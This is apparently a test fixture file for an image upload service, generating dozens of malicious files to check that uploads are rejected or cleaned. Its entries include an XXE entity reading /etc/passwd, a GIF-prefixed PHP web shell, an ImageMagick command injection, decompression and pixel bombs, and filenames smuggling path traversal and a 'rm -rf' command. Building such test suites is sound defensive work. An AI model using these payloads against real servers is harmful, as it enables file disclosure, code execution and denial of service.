import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { freshPicture, giantPng, mosaic } from './pictures.ts'

/** A marker in every hostile file that hides something; must be in no public byte. */
export const PAYLOAD = '<script>alert("copydesk")</script>'
export const traces = /alert\(|copydesk|<script|<\?php|__HALT_COMPILER|%PDF|javascript:|ENTITY/

export type Hostile = { what: string; name: string; type: string; make: () => Promise<Buffer> | Buffer | string }

const text = (what: string, type: string, make: () => Buffer | string, name = 'a.png'): Hostile => ({
  what,
  name,
  type,
  make,
})
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${PAYLOAD}</svg>`

const svgs: Hostile[] = [
  text('an SVG', 'image/svg+xml', () => svg, 'logo.svg'),
  text('an SVG that says it is a PNG', 'image/png', () => svg),
  text('an SVG with an XML declaration', 'image/svg+xml', () => `<?xml version="1.0"?>${svg}`, 'a.svg'),
  text('an SVG behind a byte order mark', 'image/svg+xml', () => `\uFEFF${svg}`, 'a.svg'),
  text('an SVG in UTF-16', 'image/svg+xml', () => Buffer.from(`\uFEFF${svg}`, 'utf16le'), 'a.svg'),
  text('a compressed SVG', 'image/svg+xml', () => gzipSync(svg), 'a.svgz'),
  text('an SVG behind white space and a comment', 'image/png', () => `\n\n <!-- GIF89a -->${svg}`),
  text(
    'an SVG with a bomb of entities',
    'image/svg+xml',
    () => `<!DOCTYPE s [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${svg}`,
    'a.svg',
  ),
  text(
    'an SVG that reads a file of the server',
    'image/svg+xml',
    () => `<!DOCTYPE s [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg>&f;</svg>`,
    'a.svg',
  ),
  text(
    'an SVG around an HTML page',
    'image/svg+xml',
    () => `<svg><foreignObject><body>${PAYLOAD}</body></foreignObject></svg>`,
    'a.svg',
  ),
  text('an SVG behind the first bytes of a GIF', 'image/gif', () => `GIF89a${svg}`, 'a.gif'),
]

const pages: Hostile[] = [
  text('an HTML page', 'text/html', () => `<!doctype html>${PAYLOAD}`, 'page.html'),
  text('an HTML page that says it is a JPEG', 'image/jpeg', () => `<html>${PAYLOAD}`, 'a.jpg'),
  text(
    'an HTML page behind the first bytes of a JPEG',
    'image/jpeg',
    () => Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(`<html>${PAYLOAD}`)]),
    'a.jpg',
  ),
  text('a script that begins like a GIF', 'image/gif', () => `GIF89a/*${PAYLOAD}*/=1;`, 'a.gif'),
  text(
    'PHP that begins like a GIF',
    'image/gif',
    () => 'GIF89a;<?php system($_GET[0]); __HALT_COMPILER(); ?>',
    'a.php.gif',
  ),
  text(
    'a web archive',
    'message/rfc822',
    () => `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${PAYLOAD}`,
    'a.mht',
  ),
  text(
    'an XHTML page',
    'application/xhtml+xml',
    () => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${PAYLOAD}</html>`,
  ),
]

const foreign: Hostile[] = [
  ['a TIFF', '49492a000800000000000000000000'],
  ['a big-endian TIFF', '4d4d002a000000080000000000000000'],
  ['a BMP', '424d3a000000000000003600000028000000'],
  ['an icon', '00000100010010100000010020006804'],
  ['a Photoshop file', '38425053000100000000000000030000'],
  ['a JPEG XL', '0000000c4a584c200d0a870a000000146674797'],
  ['a JPEG 2000', '0000000c6a5020200d0a870a0000001466747970'],
  ['a HEIC', '000000186674797068656963000000006d696631'],
  ['a film that says it is an AVIF', '000000206674797069736f6d0000020069736f6d'],
  ['an AVI in the container of WebP', '52494646ffffff0041564920 4c495354'.replace(' ', '')],
  ['a program for Windows', '4d5a90000300000004000000ffff0000b8000000'],
  ['a program for Linux', '7f454c4602010100000000000000000002003e00'],
  ['a PNG that went through a text editor', '89504e470a1a0a0000000d49484452'],
].map(([what = '', hex = '']) => text(what, 'image/png', () => Buffer.from(hex, 'hex')))

const documents: Hostile[] = [
  text('a PDF', 'application/pdf', () => `%PDF-1.7\n1 0 obj << /JS (${PAYLOAD}) >> endobj`, 'a.pdf'),
  text('a PostScript file', 'image/jpeg', () => '%!PS-Adobe-3.0 EPSF-3.0\n(x) run', 'a.jpg'),
  text(
    'an ImageMagick script',
    'image/png',
    () => 'push graphic-context\nfill \'url(https://example.com/x.jpg"|ls "-la)\'\npop graphic-context',
    'a.mvg',
  ),
  text('nothing', 'image/png', () => ''),
  text('one byte', 'image/png', () => '\u0089'),
  text('NUL bytes only', 'image/png', () => Buffer.alloc(5000)),
]

const appended = (what: string, format: 'png' | 'jpeg' | 'webp' | 'avif' | 'gif', tail: string): Hostile => ({
  what,
  name: `a.${format}`,
  type: `image/${format}`,
  make: async () => Buffer.concat([await mosaicOf(format), Buffer.from(tail, 'latin1')]),
})
let seeds = 5000
const mosaicOf = (format: 'png' | 'jpeg' | 'webp' | 'avif' | 'gif') =>
  mosaic((seeds += 1), 120, 90)
    .toFormat(format)
    .toBuffer()

const pngChunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
/** A PNG with one more chunk, behind its header. */
const withChunk = async (type: string, data: Buffer) => {
  const png = await mosaicOf('png')
  return Buffer.concat([png.subarray(0, 33), pngChunk(type, data), png.subarray(33)])
}
/** A JPEG with one more segment, behind its first two bytes. */
const withSegment = async (marker: number, data: Buffer) => {
  const jpeg = await mosaicOf('jpeg')
  const head = Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255])
  return Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)])
}

const hidden: Hostile[] = [
  appended('a GIF with a page behind it', 'gif', `<html>${PAYLOAD}</html>`),
  appended('a JPEG with a page behind it', 'jpeg', `<html>${PAYLOAD}</html>`),
  appended('a PNG with a ZIP archive behind it', 'png', `PK\x03\x04${PAYLOAD}PK\x05\x06`),
  appended('a PNG with a PDF behind it', 'png', `%PDF-1.7 ${PAYLOAD} %%EOF`),
  appended('a WebP with a script behind it', 'webp', PAYLOAD),
  appended('an AVIF with a script behind it', 'avif', PAYLOAD),
  appended('a GIF with a PHP archive behind it', 'gif', `<?php ${PAYLOAD} __HALT_COMPILER(); ?>`),
  {
    what: 'a GIF with a script in a comment',
    name: 'a.gif',
    type: 'image/gif',
    make: async () => {
      const gif = await mosaicOf('gif')
      const comment = Buffer.concat([Buffer.from([0x21, 0xfe, PAYLOAD.length]), Buffer.from(PAYLOAD), Buffer.from([0])])
      return Buffer.concat([gif.subarray(0, -1), comment, Buffer.from([0x3b])])
    },
  },
  {
    what: 'a JPEG with a script in a comment',
    name: 'a.jpg',
    type: 'image/jpeg',
    make: () => withSegment(0xfe, Buffer.from(PAYLOAD)),
  },
  {
    what: 'a JPEG with a script as its camera',
    name: 'a.jpg',
    type: 'image/jpeg',
    make: async () =>
      mosaic((seeds += 1), 120, 90)
        .withExif({ IFD0: { Make: PAYLOAD, Copyright: PAYLOAD } })
        .jpeg()
        .toBuffer(),
  },
  {
    what: 'a JPEG with a script in its IPTC',
    name: 'a.jpg',
    type: 'image/jpeg',
    make: () => withSegment(0xed, Buffer.from(`Photoshop 3.0\0${PAYLOAD}`)),
  },
  {
    what: 'a PNG with a script in a text',
    name: 'a.png',
    type: 'image/png',
    make: () => withChunk('tEXt', Buffer.from(`Comment\0${PAYLOAD}`)),
  },
  {
    what: 'a PNG with a script in a chunk no one knows',
    name: 'a.png',
    type: 'image/png',
    make: () => withChunk('prVt', Buffer.from(PAYLOAD)),
  },
  {
    what: 'a PNG with a page in its profile',
    name: 'a.png',
    type: 'image/png',
    make: () => withChunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), deflateSync(PAYLOAD)])),
  },
  {
    what: 'a WebP with a script in its XMP',
    name: 'a.webp',
    type: 'image/webp',
    make: () =>
      mosaic((seeds += 1), 120, 90)
        .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${PAYLOAD}</x:xmpmeta>`)
        .webp()
        .toBuffer(),
  },
  {
    what: 'an AVIF with a script in its XMP',
    name: 'a.avif',
    type: 'image/avif',
    make: () =>
      mosaic((seeds += 1), 120, 90)
        .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${PAYLOAD}</x:xmpmeta>`)
        .avif()
        .toBuffer(),
  },
  { what: 'a picture that says it is a page', name: 'page.html', type: 'text/html', make: () => mosaicOf('png') },
  {
    what: 'a picture that says it is a program',
    name: 'setup.exe',
    type: 'application/x-msdownload',
    make: () => mosaicOf('jpeg'),
  },
]

const cutAt = (what: string, format: 'png' | 'jpeg' | 'webp' | 'avif' | 'gif', share: number): Hostile => ({
  what,
  name: `a.${format}`,
  type: `image/${format}`,
  make: async () => {
    const whole = await mosaicOf(format)
    return whole.subarray(0, share < 1 ? Math.floor(whole.length * share) : share)
  },
})
const truncated: Hostile[] = [
  cutAt('a PNG of 8 bytes', 'png', 8),
  cutAt('a PNG that ends with its header', 'png', 33),
  cutAt('half a PNG', 'png', 0.5),
  cutAt('a JPEG of 3 bytes', 'jpeg', 3),
  cutAt('a JPEG of 20 bytes', 'jpeg', 20),
  cutAt('half a JPEG', 'jpeg', 0.5),
  cutAt('a WebP of 16 bytes', 'webp', 16),
  cutAt('half a WebP', 'webp', 0.5),
  cutAt('an AVIF of 40 bytes', 'avif', 40),
  cutAt('half an AVIF', 'avif', 0.5),
  cutAt('a GIF of 13 bytes', 'gif', 13),
  cutAt('half a GIF', 'gif', 0.5),
]

/** The size that a header says, far from the truth. */
async function lying(format: 'gif' | 'jpeg' | 'webp' | 'avif', width: number, height: number): Promise<Buffer> {
  const bytes = Buffer.from(await mosaicOf(format))
  if (format === 'gif') {
    bytes.writeUInt16LE(width, 6)
    bytes.writeUInt16LE(height, 8)
    const frame = bytes.indexOf(Buffer.from([0x2c, 0, 0, 0, 0]))
    bytes.writeUInt16LE(width, frame + 5)
    bytes.writeUInt16LE(height, frame + 7)
  }
  if (format === 'jpeg') {
    const frame = bytes.findIndex((byte, at) => byte === 0xff && [0xc0, 0xc2].includes(bytes[at + 1] ?? 0))
    bytes.writeUInt16BE(height, frame + 5)
    bytes.writeUInt16BE(width, frame + 7)
  }
  if (format === 'avif') {
    const extent = bytes.indexOf('ispe')
    bytes.writeUInt32BE(width, extent + 8)
    bytes.writeUInt32BE(height, extent + 12)
  }
  if (format !== 'webp') return bytes
  const head = Buffer.alloc(30)
  head.write('RIFF', 0, 'latin1')
  head.write('WEBPVP8X', 8, 'latin1')
  head.writeUInt32LE(10, 16)
  head.writeUIntLE(width - 1, 24, 3)
  head.writeUIntLE(height - 1, 27, 3)
  const whole = Buffer.concat([head, bytes.subarray(12)])
  whole.writeUInt32LE(whole.length - 8, 4)
  return whole
}

const bombs: Hostile[] = [
  { what: 'R50 a PNG of 900 megapixels', name: 'a.png', type: 'image/png', make: () => giantPng(30_000, 30_000) },
  { what: 'R50 a PNG just over 50 megapixels', name: 'a.png', type: 'image/png', make: () => giantPng(7072, 7072) },
  {
    what: 'R50 a PNG one pixel high and endlessly wide',
    name: 'a.png',
    type: 'image/png',
    make: () => giantPng(60_000_000, 1),
  },
  {
    what: 'R50 a GIF that says 900 megapixels',
    name: 'a.gif',
    type: 'image/gif',
    make: () => lying('gif', 30_000, 30_000),
  },
  {
    what: 'R50 a JPEG that says 900 megapixels',
    name: 'a.jpg',
    type: 'image/jpeg',
    make: () => lying('jpeg', 30_000, 30_000),
  },
  {
    what: 'R50 a WebP that says 268 megapixels',
    name: 'a.webp',
    type: 'image/webp',
    make: () => lying('webp', 16_384, 16_384),
  },
  {
    what: 'R50 an AVIF that says 900 megapixels',
    name: 'a.avif',
    type: 'image/avif',
    make: () => lying('avif', 30_000, 30_000),
  },
  {
    what: 'R50 a PNG with a gigabyte in its profile',
    name: 'a.png',
    type: 'image/png',
    make: () =>
      withChunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(100_000_000), { level: 1 })])),
  },
  {
    what: 'R50 a PNG with a bomb of text',
    name: 'a.png',
    type: 'image/png',
    make: () =>
      withChunk('zTXt', Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(100_000_000), { level: 1 })])),
  },
  {
    what: 'R50 an animation of thousands of frames',
    name: 'a.gif',
    type: 'image/gif',
    make: async () => {
      const gif = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#123456' } })
        .gif()
        .toBuffer()
      const frame = gif.subarray(gif.indexOf(Buffer.from([0x2c, 0, 0, 0, 0])), -1)
      return Buffer.concat([gif.subarray(0, -1), ...Array<Buffer>(5000).fill(frame), Buffer.from([0x3b])])
    },
  },
]

const named = (what: string, name: string): Hostile => ({
  what: `a picture called ${what}`,
  name,
  type: 'image/png',
  make: freshPicture,
})
const names: Hostile[] = [
  named('like a way up', '../../../../etc/passwd.png'),
  named('like a way up on Windows', '..\\..\\windows\\system.ini.png'),
  named('like an absolute path', '/etc/cron.d/job.png'),
  named('like a drive', 'C:\\autoexec.png'),
  named('from right to left', '\u202Egnp.exe.png'),
  named('with NUL', 'a\u0000.php.png'),
  named('far too long', `${'长'.repeat(3000)}.png`),
  named('with line breaks', 'a%0d%0aSet-Cookie: x=1.png'),
  named('like a device of Windows', 'CON.png'),
  named('like a stream of Windows', 'a.png::$DATA'),
  named('with two extensions', 'photo.php.jpg.html'),
  named('like a file of the web server', '.htaccess'),
  named('with markup', '<img src=x onerror=alert(1)>.png'),
  named('like a shell command', '; rm -rf $(pwd) `id` |.png'),
  named('with dots only', '...'),
]

export const hostileFiles = [...svgs, ...pages, ...foreign, ...documents, ...hidden, ...truncated, ...bombs, ...names]
